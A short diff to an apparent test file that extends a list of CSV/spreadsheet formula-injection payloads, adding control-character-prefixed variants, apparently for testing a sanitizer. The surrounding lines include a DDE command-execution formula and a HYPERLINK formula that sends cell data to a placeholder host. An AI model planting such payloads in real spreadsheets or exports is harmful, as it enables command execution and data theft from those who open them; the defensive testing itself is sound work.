@@ -21,6 +21,7 @@ PAYLOADS = [
     "＝1+1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x",
     "=cmd|'/c calc'!A1", '=HYPERLINK("http://x.example?"&A1,"click")', "=IMPORTXML(A1)", "+31612345678", "-",
     "x;=1+1", "x,=1+1", "x\t=1+1", 'x"=1+1', "x\r\n=1+1", "x|=1+1", 'a";=1+1;"', "x;＝1+1", "x;'=1", "=\u0000", "-2+3",
+    "\x01=1+1", "\x00=1+1", "\x7f=1+1", "\x85@x", "x;\x01=1+1", "x,\x1f-1",
 ]  # fmt: skip
 CONTROLS = "".join(map(chr, [*range(9), *range(14, 32), *range(127, 160)]))
 SKIPPED = " \u00a0\ufeff\u200b\u200e\u00ad\"'" + CONTROLS
